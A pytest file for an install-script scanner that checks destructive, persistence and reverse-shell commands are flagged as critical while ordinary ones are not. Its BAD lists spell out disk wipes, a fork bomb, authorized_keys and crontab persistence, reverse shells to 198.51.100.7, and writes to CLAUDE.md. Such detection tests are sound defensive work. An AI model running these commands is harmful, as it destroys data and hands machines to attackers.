"""Commands that destroy, stay, or hand the machine over."""

from __future__ import annotations

import pytest

from tests.install.scan.samples import Scanner
from tests.install.scan.test_downloads import lines

BAD = {
    "destructive": """
        rm -rf /
        rm -rf ~
        rm -fr "$HOME"
        rm -r -f ${HOME}/*
        sudo rm -rf --no-preserve-root /
        rm -rf /etc
        mkfs.ext4 /dev/sda1
        dd if=/dev/zero of=/dev/sda bs=1M
        cat x > /dev/nvme0n1
        :(){ :|:& };:
        shutil.rmtree("/")
        shutil.rmtree(Path.home())
        shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
        fs.rmSync(os.homedir(), {recursive: true})
        Remove-Item -Recurse -Force $HOME
        format c: /q
        del /s /q c:\\*
    """,
    "persistence": """
        (crontab -l; echo "* * * * * x") | crontab -
        crontab jobs.txt
        launchctl load com.x.plist
        cp x.plist ~/Library/LaunchAgents/
        schtasks /create /tn x /tr y
        echo 'x' >> ~/.bashrc
        echo 'x' | tee -a "$HOME/.zshrc"
        open(os.path.expanduser("~/.profile"), "a")
        cat key >> ~/.ssh/authorized_keys
    """,
    "reverse_shell": """
        bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
        exec 5<>/dev/tcp/198.51.100.7/80; sh <&5
        nc -e /bin/sh 198.51.100.7 4444
        ncat 198.51.100.7 4444 -c bash
        mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f
        socat tcp:198.51.100.7:4444 exec:bash
        import pty; pty.spawn("/bin/bash")
        os.dup2(s.fileno(), 0)
        $c = New-Object System.Net.Sockets.TCPClient("x", 1)
    """,
}
GOOD = """
    rm -rf build dist
    rm -rf ./node_modules
    rm -rf /tmp/work-123
    rm -rf ~/.cache/mytool
    rm -rf "$HOME/project/build"
    rm -f /etc/mytool.conf
    rm x; confirm -r /
    rm -rf "$TMPDIR"
    dd if=in.img of=out.img
    echo done > /dev/null
    shutil.rmtree(build_dir)
    shutil.rmtree("/tmp/x")
    crontab -l
    cat ~/.bashrc
    grep alias ~/.zshrc
    systemctl status nginx
    (echo > /dev/tcp/localhost/5432) && echo up
    nc -z localhost 5432
    nc -lk 8080
    s.bind(("", 80))
"""


@pytest.mark.parametrize("rule", BAD)
def test_in_a_script_it_is_critical(scanner: Scanner, rule: str) -> None:
    assert [line for line in lines(BAD[rule]) if scanner.worst(rule, f"x\n{line}\ny\n", "run.sh") != "critical"] == []


def test_ordinary_commands_are_left_alone(scanner: Scanner) -> None:
    assert [item for line in lines(GOOD) for item in scanner.findings(line, "run.sh")] == []


@pytest.mark.parametrize("rule", ["destructive", "persistence"])
def test_text_that_names_them_is_a_warning_at_the_most(scanner: Scanner, rule: str) -> None:
    text = "| `{}` | what a review looks at |\n"
    assert [line for line in lines(BAD[rule]) if scanner.worst(rule, text.format(line)) != "warning"] == []


def test_leaving_a_program_running_is_worth_less(scanner: Scanner) -> None:
    for line in ("systemctl --user enable x", "nohup ./server &", "./server & disown"):
        assert scanner.worst("persistence", line, "run.sh") == "warning"
        assert scanner.worst("persistence", f"Use `{line}` on the host.") == "note"


def test_writing_what_agents_obey_is_a_warning(scanner: Scanner) -> None:
    assert scanner.worst("persistence", "echo x >> CLAUDE.md", "run.sh") == "warning"
    assert scanner.worst("persistence", "cat x > ~/.claude/settings.json", "run.sh") == "warning"
    assert scanner.worst("persistence", "cat CLAUDE.md", "run.sh") is None
